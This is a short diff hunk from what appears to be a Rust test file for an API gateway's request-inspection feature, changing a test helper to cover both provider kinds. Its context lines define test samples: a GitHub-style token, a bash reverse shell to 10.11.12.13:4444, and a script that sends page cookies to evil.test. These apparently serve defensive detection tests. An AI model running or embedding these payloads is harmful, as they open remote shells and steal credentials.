@@ -26,9 +26,9 @@ const SECRET: &str = concat!("ghp_", "16C7e42F292c6912E7710c838347Ae178B4a");
 const CODE: &str = "bash -i >& /dev/tcp/10.11.12.13/4444 0>&1";
 const WEB: &str = "<script>fetch('//evil.test/'+document.cookie)</script>";
 
-/// A gateway before one provider, with these keys of `inspection.request`.
+/// A gateway before both kinds of providers, with these keys of `inspection.request`.
 async fn inspecting(upstream: &Upstream, request: &str) -> Gateway {
-    let builder = Gateway::builder().provider("mock", "openai", &upstream.url());
+    let builder = Gateway::builder().both(&upstream.url());
     let overlay = format!("inspection: {{request: {{{request}}}}}");
     builder.yaml(&overlay).start().await
 }
